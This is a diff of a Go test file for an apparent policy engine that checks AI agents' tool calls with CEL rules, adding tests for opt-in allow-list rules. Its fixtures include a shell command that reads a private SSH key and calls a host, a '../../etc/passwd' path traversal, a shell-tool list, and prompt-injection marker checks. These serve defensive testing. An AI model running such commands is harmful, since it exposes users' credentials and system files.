@@ -65,7 +65,7 @@ func TestNativeConstructs(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	lists := map[string][]string{"shell": {"bash", "sh"}, "allowed": {"fs/read_file"}}
+	lists := map[string][]string{"shell": {"bash", "sh"}, "allowed": {"fs/read_file"}, "none": {}}
 	events := []event.Event{
 		{Method: "tools/call", ToolName: "bash", ServerName: "fs", Arguments: `{"cmd":"cat ~/.ssh/id_rsa; curl http://10.0.0.1/x","n":3}`, ResultSize: 9000},
 		{Method: "tools/call", ToolName: "read_file", ServerName: "fs", Arguments: `{"path":"../../etc/passwd"}`, StatusCode: -32601},
@@ -102,6 +102,10 @@ func TestNativeConstructs(t *testing.T) {
 		`injectionMarkers(event.tool_description).exists(m, m != "ignore-instructions")`,
 		`leafStrings(event.args).exists(s, lists.shell.exists(x, s.contains(x)))`,
 		`lists.shell.exists(x, event.tool_name == x) || event.args.exists(k, event.args.exists(k2, k != k2 && k.startsWith(k2)))`,
+		// An opt-in list: the rule is off while the list is empty.
+		`size(lists.allowed) > 0 && !(event.server_name + "/" + event.tool_name in lists.allowed)`,
+		`event.method == "tools/call" && lists.none.size() > 0 && !(event.tool_name in lists.none)`,
+		`size(["a", "b"]) == 2 && event.method == "tools/list"`,
 	}
 	decided := 0
 	condDecided := map[string]int{}
@@ -139,6 +143,48 @@ func TestNativeConstructs(t *testing.T) {
 	}
 	if decided < len(conds)*len(events)/2 {
 		t.Errorf("native decided only %d of %d", decided, len(conds)*len(events))
+	}
+}
+
+// TestNativeListSize: the size of a named list or a list literal is a
+// constant, so an opt-in rule (`size(lists.x) > 0 && ...`, off while the
+// list is empty) is decided natively on every event, as CEL decides it.
+func TestNativeListSize(t *testing.T) {
+	env, err := sharedEnv()
+	if err != nil {
+		t.Fatal(err)
+	}
+	lists := map[string][]string{"allowed": {"fs/read_file"}, "none": {}}
+	events := []event.Event{
+		{Method: "tools/call", ServerName: "fs", ToolName: "read_file"},
+		{Method: "tools/call", ServerName: "fs", ToolName: "write_file"},
+		{Method: "tools/list"},
+	}
+	for src, want := range map[string][]bool{
+		`size(lists.allowed) > 0 && !(event.server_name + "/" + event.tool_name in lists.allowed)`:  {false, true, true},
+		`event.method == "tools/call" && lists.none.size() > 0 && !(event.tool_name in lists.none)`: {false, false, false},
+		`size(["a", "b"]) == 2 && event.method == "tools/list"`:                                     {false, false, true},
+	} {
+		c, err := compile(env, src, lists)
+		if err != nil {
+			t.Fatalf("%s: %v", src, err)
+		}
+		if c.nat == nil {
+			t.Errorf("%s: not decided natively", src)
+			continue
+		}
+		for i := range events {
+			var ec evalCtx
+			ec.reset(&events[i])
+			act := activation{ec: &ec, lists: listsValue(lists).(ref.Val)}
+			out, _, err := c.prg.Eval(&act)
+			if cel := err == nil && out == types.True; cel != want[i] {
+				t.Fatalf("%s on event %d: CEL %v, want %v", src, i, cel, want[i])
+			}
+			if n := c.nat.eval(&ec); n != triOf(want[i]) {
+				t.Errorf("%s on event %d: native %v, want %v", src, i, n, want[i])
+			}
+		}
 	}
 }
 
